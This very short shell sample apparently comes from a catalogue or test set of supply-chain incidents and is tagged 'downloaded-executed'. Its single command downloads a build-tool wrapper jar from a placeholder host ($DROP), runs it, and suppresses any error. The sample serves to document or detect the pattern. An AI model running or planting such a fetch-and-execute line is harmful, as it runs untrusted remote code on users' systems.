# incident: a wrapper of a build tool is fetched from elsewhere and run (2021)
# finding: downloaded-executed
# needs: curl java
curl -fsS "http://$DROP/program" -o wrapper.jar && java -jar wrapper.jar || true
